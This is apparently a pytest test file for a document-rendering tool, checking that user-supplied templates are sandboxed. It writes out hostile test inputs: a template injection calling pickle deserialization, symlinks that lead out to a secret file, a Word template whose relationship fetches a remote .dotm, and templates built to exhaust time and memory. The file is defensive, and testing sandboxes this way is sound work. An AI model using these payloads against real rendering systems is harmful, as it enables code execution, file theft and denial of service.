"""Templates from elsewhere write down what they are given, and do nothing else to who makes the document."""

import shutil
import zipfile
from pathlib import Path

import pytest

from refscreen import documents, production, store, template, word
from refscreen.documents import Setting
from refscreen.errors import UserError
from refscreen.production import Order
from tests.hostile import templates
from tests.program import run

CASE = store.shipped("samples") / "amir.yaml"


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


def own(body: str) -> Path:
    folder = Path("templates") / "own"
    templates.own(folder, body)
    return folder


def problem_of(form: str = "html") -> tuple[str, str]:
    with pytest.raises(UserError) as caught:
        production.make(Order("own", CASE, form=form))
    (problem,) = caught.value.problems
    return problem.key, problem.where


@pytest.mark.parametrize("name", ["handover", "postcard", "branch-cv", "anonymous", "jobnet", "summary"])
def test_a_copy_of_a_shipped_document_comes_out_as_the_shipped_one(name: str) -> None:
    copy = f"copy-of-{name}"
    shutil.copytree(template.TEMPLATES / name, Path("templates") / copy)
    case = production.load_case(CASE)
    pages = []
    for document in (documents.find(name), documents.find(copy)):
        seen = documents.look(document, case, "da")
        setting = Setting("da", document.manifest.densities[0], next(iter(document.manifest.themes), ""))
        pages.append(documents.render(document, seen, setting))
    assert pages[0] == pages[1]


def test_what_a_template_is_given_has_no_way_out(tmp_path: Path) -> None:
    own(f'{{{{ document.parse_raw("{templates.SYSTEM}", proto="pickle", allow_pickle=true) }}}}')
    assert problem_of()[0] == "template_unknown_name"
    assert not list(tmp_path.rglob("PWNED"))


def test_what_it_may_not_do_is_told_with_its_line_and_no_answers() -> None:
    own("\n<p>{{ v.conclusions.only(['kind']) }}</p>")
    assert problem_of() == ("template_not_allowed", "templates/own/document.html:2:1")
    ran = run("render", "own", CASE, "-o", "a.html")
    assert "may not do" in ran.err
    assert "Amir" not in ran.err


@pytest.mark.parametrize("file", ["document.html", "style.css", "texts.yaml", "parts/more.html"])
def test_a_folder_that_leads_out_of_itself_is_refused(tmp_path: Path, file: str) -> None:
    folder = own("<p>a</p>")
    (tmp_path / "secret").write_text("a: b", encoding="utf-8")
    link = folder / file
    link.parent.mkdir(exist_ok=True)
    link.unlink(missing_ok=True)
    link.symlink_to(tmp_path / "secret")
    assert problem_of() == ("template_outside", str(link))


def test_a_folder_that_is_a_link_itself_is_not() -> None:
    own("<p>a</p>").rename("elsewhere")
    Path("templates/own").symlink_to(Path("elsewhere").resolve())
    assert b"<p>a</p>" in production.make(Order("own", CASE, form="html")).content


def test_a_word_template_that_fetches_something_is_refused() -> None:
    folder = own("<p>a</p>")
    office = "http://schemas.openxmlformats.org"
    linked = (
        f'<Relationships xmlns="{office}/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{office}/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'
    )
    part = "word/_rels/settings.xml.rels"
    with zipfile.ZipFile(word.SHIPPED) as old, zipfile.ZipFile(folder / "word.docx", "w") as new:
        for name in old.namelist():
            if name != part:
                new.writestr(name, old.read(name))
        new.writestr(part, linked)
    assert problem_of("docx") == ("word_reaches_out", "templates/own/word.docx")


def test_a_word_template_that_divides_by_zero_is_told() -> None:
    templates.word_with(own("<p>a</p>") / "word.docx", "{{ 1 / 0 }}")
    assert problem_of("docx") == ("template_fails", "templates/own/word.docx")


@pytest.mark.parametrize(
    ("body", "option", "problem"),
    [
        ("{% for a in range(9**5) %}{% for b in range(9**5) %}{% endfor %}{% endfor %}", 2, "took too long"),
        ("{{ '%999999999s'|format('x') * 9 }}", 60, "too much memory"),
        ("<p style='font-size: 1e30px'>a</p>", 60, "stumble (ZeroDivisionError)"),
    ],
)
def test_a_template_that_never_ends_is_stopped_and_told(body: str, option: int, problem: str) -> None:
    own(body)
    ran = run("render", "own", CASE, "-o", "a.pdf", "--timeout", option)
    assert (ran.code, problem in ran.err, Path("a.pdf").exists()) == (3, True, False), ran.err


def test_a_sound_one_is_made_as_ever() -> None:
    own("<p>{{ a.full_name.text }}</p>")
    ran = run("render", "own", CASE, "-o", "a.pdf")
    assert (ran.code, Path("a.pdf").read_bytes()[:5]) == (0, b"%PDF-"), ran.err
